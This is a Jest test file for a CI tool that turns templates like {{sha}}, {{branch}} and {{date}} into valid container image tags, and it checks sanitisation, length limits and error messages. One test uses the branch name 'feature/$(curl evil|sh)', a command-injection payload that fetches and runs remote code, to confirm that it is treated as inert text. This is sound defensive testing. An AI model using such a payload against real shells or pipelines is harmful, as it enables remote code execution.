import { createHash } from 'node:crypto'
import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { RepullError } from '../../src/errors.js'
import type { Problem } from '../../src/errors.js'
import { isTag } from '../../src/image/reference.js'
import { evaluateTag, evaluateText, parseTagTemplate } from '../../src/tag/evaluate.js'
import type { Facts } from '../../src/tag/facts.js'

const SHA = '0123456789abcdef0123456789abcdef01234567'
const RULE = '([A-Za-z0-9_][A-Za-z0-9._-]{0,127})'
const NOTHING: Facts = { now: new Date(Number.NaN), env: {} }
const FACTS: Facts = {
  sha: SHA,
  commitDate: new Date('2025-02-03T04:05:06Z'),
  branch: 'feature/x',
  baseBranch: 'main',
  gitTag: 'v1.2.3',
  pr: '12',
  runId: '9876543210',
  runNumber: '42',
  runAttempt: '2',
  actor: 'octo-cat',
  repo: 'acme/app',
  now: new Date('2026-11-23T21:33:07.045Z'),
  env: { FLAVOUR: 'blue/green', EMPTY: '' }
}

const tagOf = (template: string, facts: Partial<Facts> = {}) =>
  evaluateTag(template, { ...FACTS, ...facts }, { allowLatest: false })
const branchTag = (branch: string) => tagOf('{{branch}}', { branch })
const hashOf = (text: string) => createHash('sha256').update(text).digest('hex').slice(0, 8)

function problemsOf(call: () => unknown): readonly Problem[] {
  try {
    call()
  } catch (error) {
    if (error instanceof RepullError) return error.problems
    throw error
  }
  return []
}

describe('every expression', () => {
  test.each([
    ['{{sha}}', '0123456', '0123456'],
    ["{{sha '4'}}", '0123', '0123'],
    ["{{sha '12'}}", '0123456789ab', '0123456789ab'],
    ["{{sha '64'}}", SHA, SHA],
    ["{{date 'YYYYMMDDHHmmss'}}", '20261123213307', '20261123213307'],
    ["{{date 'YYYY-MM-DD' tz='Asia/Tokyo'}}", '2026-11-24', '2026-11-24'],
    ["{{date 'HH:mm'}}", '21-33', '21:33'],
    ["{{commit_date 'YYYYMMDD'}}", '20250203', '20250203'],
    ["{{commit_date 'HH' tz='America/New_York'}}", '23', '23'],
    ['{{branch}}', 'feature-x', 'feature/x'],
    ['{{base_branch}}', 'main', 'main'],
    ['{{git_tag}}', 'v1.2.3', 'v1.2.3'],
    ['{{pr}}', '12', '12'],
    ['{{run_id}}', '9876543210', '9876543210'],
    ['{{run_number}}', '42', '42'],
    ['{{run_attempt}}', '2', '2'],
    ['{{actor}}', 'octo-cat', 'octo-cat'],
    ['{{repo}}', 'acme-app', 'acme/app'],
    ["{{env 'FLAVOUR'}}", 'blue-green', 'blue/green'],
    ["{{sha}}-{{date 'YYYYMMDDHHmmss'}}", '0123456-20261123213307', '0123456-20261123213307'],
    ['pr-{{pr}}.{{sha}}', 'pr-12.0123456', 'pr-12.0123456']
  ])('%s is the tag %s and the text %s', (template, tag, text) => {
    expect(tagOf(template)).toBe(tag)
    expect(evaluateText(template, FACTS)).toBe(text)
  })

  test('text is not sanitised, and need not be a tag', () => {
    expect(evaluateText(' deploy: {{branch}} :: {{repo}} }}', FACTS)).toBe(
      ' deploy: feature/x :: acme/app }}'
    )
    expect(evaluateText('', FACTS)).toBe('')
  })

  test.each([
    [
      '{{sha}}',
      'there is no commit. It comes from the event or GITHUB_SHA in a workflow, and from HEAD of the git repository in a terminal; where there is none, give a tag without {{sha}}'
    ],
    ["{{date 'X'}}", 'the time of this run is not known. It comes from the clock, or from SOURCE_DATE_EPOCH'],
    [
      "{{commit_date 'X'}}",
      'the date of the commit is not known. It comes from the local git repository; in a workflow put actions/checkout before this step, on pull requests with fetch-depth: 2'
    ],
    [
      '{{branch}}',
      'there is no branch. It comes from the branch or the pull request that a run is for, not from a tag, and from the branch that is checked out in a terminal'
    ],
    [
      '{{base_branch}}',
      'there is no base branch. It comes from the event of a pull_request run; in a terminal write it out, as in --tag main-1'
    ],
    [
      '{{git_tag}}',
      'there is no git tag. It comes from the tag that a run is for, and from a tag on HEAD of the git repository in a terminal'
    ],
    [
      '{{pr}}',
      'there is no pull request number. It comes from the event of a pull_request run; in a terminal write it out, as in --tag pr-12'
    ],
    [
      '{{run_id}}',
      'there is no run id. It comes from GITHUB_RUN_ID in a workflow; in a terminal write it out, as in --tag run-12'
    ],
    [
      '{{run_number}}',
      'there is no run number. It comes from GITHUB_RUN_NUMBER in a workflow; in a terminal write it out, as in --tag build-12'
    ],
    [
      '{{run_attempt}}',
      'there is no run attempt. It comes from GITHUB_RUN_ATTEMPT in a workflow; in a terminal write it out, as in --tag build-12-1'
    ],
    [
      '{{actor}}',
      'there is no actor. It comes from GITHUB_ACTOR in a workflow; in a terminal write it out, as in --tag alice-1'
    ],
    [
      '{{repo}}',
      'there is no repository name. It comes from GITHUB_REPOSITORY in a workflow, and from the remote origin of the git repository in a terminal'
    ],
    [
      "{{env 'HOME'}}",
      'the environment variable is not set, or empty. It comes from env of the step, the job or the workflow, and from the shell in a terminal'
    ]
  ])('%s without its fact', (template, missing) => {
    const problems = [{ code: 'fact-missing', level: 'error', message: `${template}: ${missing}` }]
    expect(problemsOf(() => evaluateTag(template, NOTHING, { allowLatest: false }))).toEqual(problems)
    expect(problemsOf(() => evaluateText(`a ${template} b`, NOTHING))).toEqual(problems)
  })

  test('every missing fact is told, and an empty one is missing', () => {
    const problems = problemsOf(() =>
      tagOf("{{pr}}-{{sha}}-{{branch}}-{{env 'EMPTY'}}", { pr: '', branch: undefined })
    )
    expect(problems.map(({ message }) => message.split(':')[0])).toEqual([
      '{{pr}}',
      '{{branch}}',
      "{{env 'EMPTY'}}"
    ])
  })

  test('the environment has no variables but its own', () => {
    expect(problemsOf(() => tagOf("{{env 'constructor'}}"))).toMatchObject([{ code: 'fact-missing' }])
  })

  test('the same facts give the same tag', () => {
    const template = "{{sha}}-{{date 'YYYYMMDDHHmmssSSS'}}-{{branch}}"
    expect(tagOf(template)).toBe(tagOf(template))
  })
})

test('1. a branch with a command in it is a text like any other', () => {
  const branch = 'feature/$(curl evil|sh)'
  expect(branchTag(branch)).toBe(`feature-curl-evil-sh-${hashOf(branch)}`)
})

describe('4. branches that cannot be written as they are', () => {
  test.each([
    ['one character for one', 'dependabot/npm/x', 'dependabot-npm-x'],
    ['a digest sign', 'fix#12', 'fix-12'],
    ['a run', 'a//b', `a-b-${hashOf('a//b')}`],
    ['a run at the end', 'a!!', `a-${hashOf('a!!')}`],
    ['one character at the end', 'a!', 'a-'],
    ['a letter beyond ASCII', 'fügen', `f-gen-${hashOf('fügen')}`],
    ['an emoji', 'fix-🚀', `fix--${hashOf('fix-🚀')}`],
    ['an emoji at the start', '🚀launch', `launch-${hashOf('🚀launch')}`],
    ['an emoji and a dash at the start', '🚀-launch', `launch-${hashOf('🚀-launch')}`],
    ['a sign at the start', '#12-fix', `12-fix-${hashOf('#12-fix')}`],
    ['nothing but emoji', '🚀🚀', hashOf('🚀🚀')],
    ['right to left', 'ענף', hashOf('ענף')],
    ['a right-to-left override', 'a\u202eb', `a-b-${hashOf('a\u202eb')}`]
  ])('%s: %s', (_, branch, tag) => {
    expect(branchTag(branch)).toBe(tag)
    expect(isTag(tag)).toBe(true)
  })

  test('the hash is of the whole text, literals included', () => {
    expect(tagOf('v-{{branch}}-{{pr}}', { branch: 'a//b' })).toBe(`v-a-b-12-${hashOf('v-a//b-12')}`)
  })

  test('128 characters stay, 129 are cut', () => {
    const just = 'x'.repeat(128)
    const over = 'x'.repeat(129)
    expect(branchTag(just)).toBe(just)
    expect(branchTag(over)).toBe(`${'x'.repeat(119)}-${hashOf(over)}`)
    expect(branchTag(over)).toHaveLength(128)
  })

  test('a cut at a dash does not double it', () => {
    const branch = `${'x'.repeat(118)}-${'y'.repeat(50)}`
    expect(branchTag(branch)).toBe(`${'x'.repeat(118)}-${hashOf(branch)}`)
  })

  test('120 to 128 characters with a run are cut as well', () => {
    const branch = `a//${'x'.repeat(123)}`
    expect(branchTag(branch)).toBe(`a-${'x'.repeat(117)}-${hashOf(branch)}`)
  })

  test('two long branches, or two with emoji, do not meet', () => {
    const long = 'feature/'.padEnd(300, 'x')
    expect(branchTag(`${long}1`)).not.toBe(branchTag(`${long}2`))
    expect(branchTag('fix-🚀')).not.toBe(branchTag('fix-🐛'))
    expect(branchTag('🚀')).not.toBe(branchTag('🐛'))
    expect(branchTag('a//b')).not.toBe(branchTag('a/b'))
  })

  test('whatever the branch is, the tag is valid and the same each time', () => {
    const branch = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 400 }),
      fc.string({
        unit: fc.constantFrom('a', 'Z', '0', '.', '-', '_', '/', '#', '🚀', 'ü'),
        minLength: 1,
        maxLength: 300
      })
    )
    fc.assert(
      fc.property(branch, (branch) => {
        const tag = tagOf('b{{branch}}', { branch })
        expect(isTag(tag)).toBe(true)
        expect(tagOf('b{{branch}}', { branch })).toBe(tag)
      }),
      { numRuns: 1000 }
    )
  })

  test('a branch alone gives a valid tag unless it begins with a dot or a dash', () => {
    const any = fc.string({
      unit: fc.constantFrom('a', '.', '-', '_', '/', '🚀', 'ü'),
      minLength: 1,
      maxLength: 300
    })
    fc.assert(
      fc.property(any, (branch) => {
        if (/^[.-]/.test(branch)) expect(() => branchTag(branch)).toThrow('which no tag does')
        else expect(isTag(branchTag(branch))).toBe(true)
      }),
      { numRuns: 1000 }
    )
  })

  test('folding never makes one tag of two texts', () => {
    // A single ASCII character that becomes "-" is the exception, as everyone expects of feature/x.
    const unit = fc.constantFrom('a', '-', '//', '🚀', 'ü', '!?')
    const branch = fc.string({ unit, minLength: 1, maxLength: 8 }).map((text) => `b${text}`)
    fc.assert(
      fc.property(branch, branch, (one, other) => {
        if (one !== other) expect(branchTag(one)).not.toBe(branchTag(other))
      }),
      { numRuns: 1000 }
    )
  })
})

describe('5. what is no tag', () => {
  test.each([
    ['', 1, `a tag cannot be empty ${RULE}`],
    ['.x', 1, `the tag ".x" begins with ".", which no tag does ${RULE}`],
    ['-x', 1, `the tag "-x" begins with "-", which no tag does ${RULE}`],
    ['a'.repeat(129), 129, `this has 129 characters, a tag has at most 128 ${RULE}`],
    ['my tag', 3, `" " cannot stand in a tag ${RULE}`],
    ['v1+build', 3, `"+" cannot stand in a tag ${RULE}`],
    ['{{sha}}/{{pr}}', 8, `"/" cannot stand in a tag ${RULE}`],
    ['v1🚀', 3, `"🚀" cannot stand in a tag ${RULE}`],
    ['v1\n', 3, `"\\n" cannot stand in a tag ${RULE}`],
    ['{{sha}}}}', 8, `"}" cannot stand in a tag ${RULE}`]
  ])('%j is an error before anything is evaluated', (template, column, reason) => {
    const message = `${JSON.stringify(template)}, column ${column}: ${reason}`
    const problems = [{ code: 'template', level: 'error', message }]
    expect(problemsOf(() => parseTagTemplate(template))).toEqual(problems)
    expect(problemsOf(() => tagOf(template))).toEqual(problems)
  })

  test.each([
    ['{{branch}}', '.hidden', '.hidden', '.'],
    ['{{branch}}', '-d', '-d', '-'],
    ['{{branch}}-{{sha}}', '.', '.-0123456', '.']
  ])('%s with the branch %j is an error', (template, branch, tag, first) => {
    const message = `${JSON.stringify(template)}, column 1: the tag "${tag}" begins with "${first}", which no tag does ${RULE}`
    expect(problemsOf(() => tagOf(template, { branch }))).toEqual([
      { code: 'template', level: 'error', message }
    ])
  })

  test('latest is an error unless it is allowed', () => {
    const reason =
      'the tag latest moves from build to build, so that writing it starts no rollout and nodes keep the copy they have; ' +
      'to use it all the same, write it out as NAME:latest in images, or give digest'
    const message = `"latest", column 1: ${reason}`
    expect(problemsOf(() => tagOf('latest'))).toEqual([{ code: 'template', level: 'error', message }])
    expect(evaluateTag('latest', FACTS, { allowLatest: true })).toBe('latest')
    expect(problemsOf(() => branchTag('latest'))).toMatchObject([
      { message: `"{{branch}}", column 1: ${reason}` }
    ])
  })

  test.each(['V1.0-RC', '_x', '1', 'a'.repeat(128), 'a..b--c__d', 'latest-1', 'Latest', 'a-'])(
    '%j is a tag, upper case and all',
    (template) => {
      expect(tagOf(template)).toBe(template)
    }
  )

  test('a long literal is cut where an expression is with it', () => {
    const template = `${'a'.repeat(200)}{{sha}}`
    expect(tagOf(template)).toBe(`${'a'.repeat(119)}-${hashOf(`${'a'.repeat(200)}0123456`)}`)
    expect(tagOf(template)).not.toBe(tagOf(template, { sha: 'f'.repeat(40) }))
  })
})

test.each(['1234567', '0123456', '12e4567', '0x1234f', '0000000', '1e10000'])(
  '6. the short SHA %s stays the text that it is',
  (sha) => {
    expect(tagOf('{{sha}}', { sha: sha.padEnd(40, '0') })).toBe(sha)
    expect(evaluateText('{{sha}}', { ...FACTS, sha: sha.padEnd(40, '0') })).toBe(sha)
  }
)

describe('7. two runs in one second', () => {
  const later = { now: new Date('2026-11-23T21:33:07.999Z') }
  test('have the same tag by default: the same commit in the same second', () => {
    const template = "{{sha}}-{{date 'YYYYMMDDHHmmss'}}"
    expect(tagOf(template)).toBe('0123456-20261123213307')
    expect(tagOf(template, later)).toBe('0123456-20261123213307')
  })

  test('have different tags with milliseconds, or with the attempt', () => {
    const milliseconds = "{{date 'YYYYMMDDHHmmssSSS'}}"
    expect(tagOf(milliseconds, later)).not.toBe(tagOf(milliseconds))
    const attempt = '{{run_id}}-{{run_attempt}}'
    expect(tagOf(attempt)).toBe('9876543210-2')
    expect(tagOf(attempt, { runAttempt: '3' })).toBe('9876543210-3')
  })

  test('have the same tag with the date of the commit, on every attempt', () => {
    const template = "{{sha}}-{{commit_date 'YYYYMMDDHHmmss'}}"
    expect(tagOf(template, { ...later, runAttempt: '3' })).toBe(tagOf(template))
  })
})
